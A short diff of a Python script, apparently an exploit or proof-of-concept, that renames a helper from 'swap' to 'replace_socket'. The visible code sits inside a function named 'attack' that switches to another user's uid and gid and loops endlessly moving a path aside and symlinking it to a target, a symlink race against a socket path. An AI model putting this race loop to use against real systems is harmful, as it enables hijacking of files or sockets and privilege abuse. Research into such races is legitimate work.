@@ -20,7 +20,7 @@ import sys
 RESTARTS = 25
 
 
-def swap(path: str, target: str, aside: str) -> None:
+def replace_socket(path: str, target: str, aside: str) -> None:
     with contextlib.suppress(OSError):
         os.rename(path, aside)
         os.symlink(target, path)
@@ -39,7 +39,7 @@ def attack(user: str, path: str, target: str) -> int:
         os.setgid(account.pw_gid)
         os.setuid(account.pw_uid)
         while True:
-            swap(path, target, f"{path}.aside")
+            replace_socket(path, target, f"{path}.aside")
     return child
 
 
